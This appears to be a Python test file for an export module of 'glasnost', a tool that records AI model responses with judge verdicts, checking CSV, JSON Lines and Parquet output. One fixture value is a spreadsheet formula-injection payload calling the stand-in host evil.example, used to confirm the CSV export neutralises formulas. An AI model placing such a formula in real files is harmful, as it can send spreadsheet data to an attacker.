"""glasnost export: responses joined with verdicts as CSV, JSON Lines and Parquet."""

from __future__ import annotations

import builtins
import csv
import json
import subprocess
import sys

import pytest

from glasnost.errors import ConfigError
from glasnost.report.export import COLUMNS, export
from glasnost.store import open_store
from glasnost.testing.synthetic import RunBuilder, make_concept

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TEXTS = {
    "cn.a.knowledge": FORMULA,
    "cn.b.knowledge": "第一行\n\"quoted\", with comma\u202e",
    "cn.c.knowledge": "- a bullet that starts with a dash",
}


@pytest.fixture
def run(tmp_path):
    store = open_store(tmp_path / "g.db")
    concepts = [make_concept(cid, "CN", cid.split(".")[1]) for cid in TEXTS]
    b = RunBuilder(store, concepts, targets=["m"], langs=["en"])
    for cid, text in TEXTS.items():
        b.add("m", cid, "en", "refused" if cid.endswith("a.knowledge") else "answered", text=text,
              fact_coverage=0.5, evidence=[{"layer": "rules", "kind": "refusal_opener", "start": 0, "end": 3}],
              other_judges={"llm@1": "deflected"})
    manifest = b.commit()
    yield store, manifest
    store.close()


def test_jsonl_keeps_every_value_exactly(run, tmp_path):
    store, manifest = run
    n = export(store, [manifest.run_id], tmp_path / "x.jsonl", "jsonl")
    rows = [json.loads(line) for line in (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines()]
    assert n == 3 and len(rows) == 3 and list(rows[0]) == COLUMNS
    by_concept = {r["concept_id"]: r for r in rows}
    assert by_concept["cn.a.knowledge"]["text"] == FORMULA
    assert by_concept["cn.b.knowledge"]["text"] == TEXTS["cn.b.knowledge"]
    a = by_concept["cn.a.knowledge"]
    assert (a["judge"], a["label"], a["status"], a["fact_coverage"]) == ("default@1", "refused", "ok", 0.5)
    assert (a["jurisdiction"], a["topic"], a["kind"]) == ("CN", "a", "knowledge")
    assert json.loads(a["evidence"])[0]["kind"] == "refusal_opener"


def test_csv_guards_formulas_and_reads_back(run, tmp_path):
    store, manifest = run
    export(store, [manifest.run_id], tmp_path / "x.csv", "csv")
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    by_concept = {r["concept_id"]: r for r in rows}
    assert by_concept["cn.a.knowledge"]["text"] == "'" + FORMULA  # a spreadsheet shows it, never runs it
    assert by_concept["cn.c.knowledge"]["text"].startswith("'- a bullet")
    assert by_concept["cn.b.knowledge"]["text"] == TEXTS["cn.b.knowledge"]  # newlines, quotes, commas survive
    assert by_concept["cn.a.knowledge"]["label"] == "refused"


def test_choose_another_judge(run, tmp_path):
    store, manifest = run
    export(store, [manifest.run_id], tmp_path / "x.jsonl", "jsonl", judge="llm")
    rows = [json.loads(line) for line in (tmp_path / "x.jsonl").read_text().splitlines()]
    assert {r["label"] for r in rows} == {"deflected"} and {r["judge"] for r in rows} == {"llm@1"}


def test_parquet_round_trip(run, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    store, manifest = run
    export(store, [manifest.run_id], tmp_path / "x.parquet", "parquet")
    table = pq.read_table(tmp_path / "x.parquet")
    assert table.num_rows == 3 and table.column_names == COLUMNS
    assert sorted(table.column("text").to_pylist()) == sorted(TEXTS.values())
    assert table.schema.field("fact_coverage").type == "double"


def test_parquet_without_pyarrow_is_one_clear_line(run, tmp_path, monkeypatch):
    store, manifest = run
    real_import = builtins.__import__

    def no_pyarrow(name, *args, **kwargs):
        if name == "pyarrow" or name.startswith("pyarrow."):
            raise ImportError("No module named 'pyarrow'")
        return real_import(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", no_pyarrow)
    with pytest.raises(ConfigError, match=r"needs the parquet extra: pip install 'glasnost\[parquet\]'"):
        export(store, [manifest.run_id], tmp_path / "x.parquet", "parquet")
    assert not (tmp_path / "x.parquet").exists()


def test_bad_input(run, tmp_path):
    store, manifest = run
    with pytest.raises(ConfigError, match="unknown export format"):
        export(store, [manifest.run_id], tmp_path / "x.xlsx", "xlsx")
    with pytest.raises(ConfigError, match="does not exist"):
        export(store, [manifest.run_id], tmp_path / "no" / "x.csv", "csv")


def test_cli_export(run, tmp_path):
    store, manifest = run
    store.close()
    db = str(tmp_path / "g.db")
    cli = [sys.executable, "-m", "glasnost.cli.main", "export"]
    ok = subprocess.run([*cli, manifest.run_id, "--db", db, "--out", str(tmp_path / "y.jsonl")],
                        capture_output=True, text=True, timeout=120)
    assert ok.returncode == 0 and "exported 3 responses" in ok.stdout
    unknown = subprocess.run([*cli, manifest.run_id, "--db", db, "--out", str(tmp_path / "y.bin")],
                             capture_output=True, text=True, timeout=120)
    assert unknown.returncode == 2 and unknown.stderr.startswith("error: cannot tell the format")
